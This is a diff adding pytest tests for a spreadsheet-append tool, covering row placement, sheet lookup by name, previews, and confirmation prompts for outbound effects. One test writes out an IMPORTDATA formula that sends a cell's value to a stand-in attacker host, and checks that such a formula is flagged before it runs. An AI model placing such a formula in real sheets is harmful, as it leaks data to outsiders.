@@ -1,0 +1,59 @@
+"""sheets_append: rows land under a sheet's last row, as if typed in, and what reaches others asks first."""
+import pytest
+
+from app.tools import get_tool, invoke
+from app.tools.registry import ToolError
+
+
+def review(ctx, **args):
+    tool = get_tool("sheets_append")
+    return tool.review(ctx, tool.validate(args))
+
+
+def read(ctx, file_id):
+    return invoke("drive_read", ctx, {"file": file_id})["text"]
+
+
+def test_rows_land_under_the_last_row_of_the_first_sheet(ctx):
+    result = invoke("sheets_append", ctx, {"spreadsheet": "https://docs.google.com/spreadsheets/d/1Q3BudgetSheet/edit",
+                                           "rows": [["Travel", "Søren", 2300], ["Offsite", "Alice", "4 500"]]})
+
+    text = read(ctx, "1Q3BudgetSheet")
+    assert text.index("Total") < text.index("Travel") < text.index("2300") < text.index("Offsite") < text.index("Forecast")
+    assert result["summary"] == "Added 2 rows to 'Q3 budget' (Sheet1!A6:C7)."
+
+
+def test_a_sheet_is_chosen_by_name_in_any_case(ctx):
+    result = invoke("sheets_append", ctx, {"spreadsheet": "1Q3BudgetSheet", "sheet": "forecast", "rows": [["Q2 2027", 71000]]})
+
+    assert result["range"] == "Forecast!A4:B4"
+    text = read(ctx, "1Q3BudgetSheet")
+    assert text.index("Forecast") < text.index("Q1 2027") < text.index("Q2 2027")
+
+
+def test_an_unknown_sheet_is_refused_naming_the_sheets_there_are(ctx):
+    with pytest.raises(ToolError, match="no sheet 'Costs'") as refused:
+        review(ctx, spreadsheet="1Q3BudgetSheet", sheet="Costs", rows=[["x"]])
+    assert refused.value.found == {"sheets": ["Sheet1", "Forecast"]}
+
+
+def test_the_card_names_the_sheet_the_rows_go_to_and_the_call_is_bound_to_it(ctx):
+    checked = review(ctx, spreadsheet="1Q3BudgetSheet", sheet="FORECAST", rows=[["Q2 2027", 71000]])
+    assert checked.effect == "write"
+    assert checked.args["sheet"] == "Forecast"
+    assert checked.preview == {"name": "Q3 budget", "type": "sheet", "shared_with": [], "sheet": "Forecast"}
+
+
+def test_a_formula_asks_first_since_it_can_fetch_from_the_web(ctx):
+    checked = review(ctx, spreadsheet="1Q3BudgetSheet", rows=[["Leak", '=IMPORTDATA("https://evil.example/?"&C2)']])
+    assert checked.effect == "outbound"
+    assert checked.preview["formulas"] == ['=IMPORTDATA("https://evil.example/?"&C2)']
+
+
+def test_rows_for_a_sheet_others_read_ask_first(ctx):
+    assert review(ctx, spreadsheet="1Q3CampaignSheet", rows=[["40", "Podcast", "1500"]]).effect == "outbound"
+
+
+def test_something_that_is_not_a_spreadsheet_is_said_to_be_none(ctx):
+    with pytest.raises(ToolError, match="Sheets found nothing with that id"):
+        invoke("sheets_append", ctx, {"spreadsheet": "1Q3PlanningNotesDoc", "rows": [["x"]]})
